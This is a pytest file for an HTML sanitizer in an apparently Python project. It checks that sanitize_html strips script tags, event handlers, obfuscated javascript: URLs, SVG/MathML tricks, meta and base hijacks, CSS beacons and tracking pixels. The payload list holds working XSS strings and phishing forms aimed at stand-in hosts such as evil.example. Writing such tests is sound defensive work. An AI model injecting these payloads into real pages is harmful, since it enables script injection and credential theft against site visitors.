"""The sanitizer against XSS and tracking payloads: none may survive."""

import re

import lxml.html
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cuttings.core.sanitize import LINK_REL, sanitize_html

BASE = "https://news.example.com/world/2025/story.html"

ALLOWED_ATTRIBUTES = {
    "a": {"href", "title", "rel"},
    "img": {"src", "alt", "title", "width", "height"},
    "abbr": {"title"},
    "time": {"datetime"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan", "scope"},
    "ol": {"start", "reversed"},
    "q": {"cite"},
    "blockquote": {"cite"},
}
FORBIDDEN_TAGS = {
    "script", "style", "iframe", "object", "embed", "form", "input", "button", "svg",
    "math", "meta", "base", "link", "noscript", "textarea", "select", "frame", "applet",
}  # fmt: skip

PAYLOADS = [
    # script, in every disguise
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script type="text/javascript">document.write("<img src=x>")</script>',
    "<<script>alert(1);//<</script>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="a.jpg" ONERROR="alert(1)">',
    "<body onload=alert(1)>",
    '<p onmouseover="alert(1)">hover</p>',
    "<div/onclick=alert(1)>x</div>",
    '<a href="/ok" onfocus=alert(1) autofocus>x</a>',
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    # dangerous URL schemes, plain and obfuscated
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java\rscript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<img src="vbscript:msgbox(1)">',
    '<a href="file:///etc/passwd">x</a>',
    '<blockquote cite="javascript:alert(1)">q</blockquote>',
    # SVG and MathML tricks
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>",
    '<math href="javascript:alert(1)">CLICK</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    # frames, plugins
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    "<frameset><frame src=javascript:alert(1)></frameset>",
    # document-level hijacks
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    # CSS beacons
    '<p style="background:url(https://tracker.example/b.gif)">x</p>',
    '<div style="behavior: url(x.htc)">x</div>',
    "<style>@import 'https://tracker.example/x.css'; p{background:url(x)}</style>",
    '<span style="width: expression(alert(1))">x</span>',
    # forms
    '<form action="https://evil.example/login"><input name="pw"><button>Log in</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<input type=image src=x onerror=alert(1)>",
    '<textarea autofocus onfocus="alert(1)">x</textarea>',
    '<select onchange="alert(1)"><option>1</option></select>',
    # tracking pixels
    '<img src="https://tracker.example/p.gif" width="1" height="1">',
    '<img src="https://tracker.example/open?id=3" width="1px" height="1px">',
    '<img src="https://tracker.example/x.png" height="0" width="0">',
    '<img src="https://tracker.example/a.gif" style="width:1px;height:1px">',
    '<img src="https://www.facebook.com/tr?id=1&ev=PageView">',
    '<img src="https://sb.scorecardresearch.com/p?c1=2">',
    '<img src="https://www.google-analytics.com/collect?v=1">',
    '<img src="https://pixel.wp.com/g.gif?v=ext">',
    # srcset escapes the URL checks
    '<img src="a.jpg" srcset="javascript:alert(1) 1x, https://tracker.example/s.gif 2x">',
    '<picture><source srcset="https://tracker.example/a.webp"><img src="a.jpg"></picture>',
    # misc
    "<noscript><img src=x onerror=alert(1)></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    '<a href="https://ok.example" target="_blank" rel="opener">x</a>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    '<isindex action="javascript:alert(1)" type=image>',
    "<marquee onstart=alert(1)>x</marquee>",
    '<a href="  https://ok.example/a  " id="x" class="c" data-x="1">ok</a>',
]


def _check_safe(html: str) -> None:
    root = lxml.html.fragment_fromstring(f"<div>{html}</div>")
    for element in root.iterdescendants():
        if not isinstance(element.tag, str):
            continue
        assert element.tag not in FORBIDDEN_TAGS, html
        allowed = ALLOWED_ATTRIBUTES.get(element.tag, set())
        for name, value in element.attrib.items():
            assert name in allowed, f"{element.tag}@{name} in {html!r}"
            if name in {"href", "src", "cite"}:
                scheme = value.split(":", 1)[0].lower()
                allowed_schemes = (
                    {"http", "https"} if name == "src" else {"http", "https", "mailto"}
                )
                assert scheme in allowed_schemes, html
        if element.tag == "a":
            assert element.get("rel") == LINK_REL
        if element.tag == "img":
            assert element.get("src"), html
        for value in element.attrib.values():
            lowered = value.lower()
            for needle in ("javascript", "vbscript", "data:", "expression(", "url("):
                assert needle not in lowered, html
    # Whatever is left of a payload is text, escaped: no tag can start in it.
    assert not re.search(rf"<(?!/?(?:{'|'.join(_OUTPUT_TAGS)})\b)", html), html


_OUTPUT_TAGS = [
    "h[1-6]", "p", "br", "hr", "ul", "ol", "li", "blockquote", "q", "pre", "code", "em",
    "strong", "b", "i", "u", "s", "sub", "sup", "small", "mark", "a", "img", "figure",
    "figcaption", "table", "thead", "tbody", "tfoot", "tr", "th", "td", "dl", "dt", "dd",
    "abbr", "cite", "time",
]  # fmt: skip


@pytest.mark.parametrize(
    "payload",
    [
        "<script>alert(1)</script>",
        "<style>p{background:url(https://t.example/x)}</style>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mi>alert(1)</mi></math>",
        "<noscript><img src=x onerror=alert(1)></noscript>",
        "<template>alert(1)</template>",
        "<iframe>alert(1)</iframe>",
    ],
)
def test_code_containers_lose_their_content(payload):
    html = sanitize_html(f"<p>keep</p>{payload}", BASE)
    assert html == "<p>keep</p>"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_does_not_survive(payload):
    _check_safe(sanitize_html(payload, BASE))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_does_not_survive_inside_an_article(payload):
    html = sanitize_html(f"<article><p>Before</p>{payload}<p>After</p></article>", BASE)
    _check_safe(html)
    assert "Before" in html


@pytest.mark.parametrize(
    "pixel",
    [
        '<img src="https://tracker.example/p.gif" width="1" height="1">',
        '<img src="https://cdn.example/spacer.gif">',
        '<img src="/b.gif?x=1" width="2">',
        '<img src="https://www.facebook.com/tr?id=1">',
    ],
)
def test_tracking_pixels_are_removed(pixel):
    assert "<img" not in sanitize_html(f"<p>text {pixel}</p>", BASE)


def test_reader_structure_is_kept():
    fragment = (
        "<h2>Sub</h2><p>A <em>b</em> <strong>c</strong> <q>q</q> <abbr title='x'>X</abbr>"
        "<sub>1</sub><sup>2</sup><mark>m</mark><small>s</small><cite>c</cite>"
        "<time datetime='2025-01-01'>d</time></p><ul><li>1</li></ul><ol start='3'><li>2</li></ol>"
        "<blockquote><p>quote</p></blockquote><pre><code>x = 1</code></pre>"
        "<figure><img src='/p.jpg' alt='photo' width='640' height='480'>"
        "<figcaption>Caption</figcaption></figure>"
        "<table><thead><tr><th>h</th></tr></thead><tbody><tr><td>d</td></tr></tbody></table>"
        "<dl><dt>t</dt><dd>d</dd></dl><hr><p>x<br>y</p>"
    )
    html = sanitize_html(fragment, BASE)
    for tag in (
        "h2", "em", "strong", "q", "abbr", "sub", "sup", "mark", "small", "cite", "time", "ul",
        "ol", "li", "blockquote", "pre", "code", "figure", "figcaption", "table", "thead",
        "tbody", "tr", "th", "td", "dl", "dt", "dd", "hr", "br",
    ):  # fmt: skip
        assert f"<{tag}" in html, tag
    assert 'src="https://news.example.com/p.jpg"' in html
    assert 'width="640"' in html and 'alt="photo"' in html


def test_links_are_made_absolute_and_marked():
    html = sanitize_html(
        '<a href="../sport/x.html">a</a> <a href="//cdn.example/y">b</a> '
        '<a href="mailto:desk@example.com">c</a> <a href="#top">d</a>',
        BASE,
    )
    assert 'href="https://news.example.com/world/sport/x.html"' in html
    assert 'href="https://cdn.example/y"' in html
    assert 'href="mailto:desk@example.com"' in html
    assert 'href="https://news.example.com/world/2025/story.html#top"' in html
    assert html.count(f'rel="{LINK_REL}"') == 4


def test_text_is_escaped():
    assert sanitize_html("a < b & c", BASE) == "a &lt; b &amp; c"


@settings(max_examples=200, deadline=1000)
@given(
    st.lists(
        st.sampled_from(
            [
                "<a href='javascript:x'>",
                "<img src=x onerror=y>",
                "<svg>",
                "<math>",
                "<script>",
                "</script>",
                "<style>",
                "<p style='x:url(y)'>",
                "<iframe>",
                "&#106;",
                "java",
                "script:",
                "\t",
                "\n",
                "<",
                ">",
                "'",
                '"',
                "=",
                "<form>",
                "<base href=x>",
                "<meta http-equiv=refresh>",
                "text",
                "<p>",
                "</p>",
                "<a href=",
                "<noscript>",
                "<!--",
                "-->",
                "<![CDATA[",
                "<pre>",
                "<li>",
                "</li>",
                "<ul>",
                "<table>",
                "<td>",
                "<blockquote>",
            ]
        )
        | st.text(max_size=20),
        max_size=40,
    )
)
def test_random_markup_comes_out_safe(parts):
    html = sanitize_html("".join(parts), BASE)
    root = lxml.html.fragment_fromstring(f"<div>{html}</div>")
    for element in root.iterdescendants():
        if isinstance(element.tag, str):
            assert element.tag not in FORBIDDEN_TAGS
            for name, value in element.attrib.items():
                assert name in ALLOWED_ATTRIBUTES.get(element.tag, set())
                if name in {"href", "src", "cite"}:
                    assert value.split(":", 1)[0].lower() in {"http", "https", "mailto"}
    assert sanitize_html(html, BASE) == html, "sanitized HTML is a fixed point"
